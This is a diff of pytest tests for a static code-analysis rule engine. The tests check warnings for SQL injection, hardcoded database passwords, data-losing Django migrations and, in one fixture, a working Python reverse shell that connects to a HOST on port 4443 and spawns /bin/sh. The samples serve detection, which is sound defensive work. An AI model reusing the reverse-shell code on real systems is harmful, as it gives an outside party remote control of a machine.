@@ -129,3 +129,55 @@ def test_a_query_is_told_once_for_all_ways_in_which_it_comes_out() -> None:
         "f\"SELECT {column} FROM t WHERE name = '{request.args['name']}'\")"
     )
     assert len(list(judge_example(RULES["injected-query"], python(code)))) == 1
+
+
+def test_a_shell_at_the_other_end_of_a_connection_is_a_warning() -> None:
+    code = (
+        "import os, pty, socket\nsock = socket.create_connection((HOST, 4443))\n"
+        'for one in (0, 1, 2):\n    os.dup2(sock.fileno(), one)\npty.spawn("/bin/sh")\n'
+    )
+    assert level("injected-code", python(code)) is Level.WARNING
+
+
+@pytest.mark.parametrize(
+    ("path", "expected"),
+    [
+        ("shop/connect.py", Level.ERROR),
+        ("dev/connect.py", Level.WARNING),
+        ("ci/connect.py", Level.WARNING),
+    ],
+)
+def test_a_password_of_developers_machines_is_no_error(path: str, expected: Level) -> None:
+    code = (
+        "import psycopg\npsycopg.connect(host='db.shop.io', user='app', password='vQ6qKPN!Gz6anI7')"
+    )
+    assert level("written-password", python(code, path=path)) is expected
+
+
+MOVED = """\
+from django.db import migrations, models
+
+def move(apps, schema_editor):
+    Order = apps.get_model("shop", "Order")
+    Sale = apps.get_model("shop", "Sale")
+    for one in Order.objects.all():
+        Sale.objects.create(total=one.total)
+
+class Migration(migrations.Migration):
+    dependencies = [("shop", "0001_initial")]
+    operations = [
+        {0}
+        migrations.RemoveField("order", "total"),
+        migrations.DeleteModel("Order"),
+    ]
+"""
+
+
+@pytest.mark.parametrize(("step", "said"), [("migrations.RunPython(move),", True), ("", False)])
+def test_a_column_goes_with_its_table_also_where_code_moved_some_of_it(
+    step: str, said: bool
+) -> None:
+    code = python(MOVED.replace("{0}", step), path="shop/migrations/0002_move.py")
+    found = [one.message for one in judge_example(RULES["dropped-column"], code)]
+    tables = [one.message for one in judge_example(RULES["dropped-table"], code)]
+    assert (found, ["copied to" in one for one in tables]) == ([], [said])
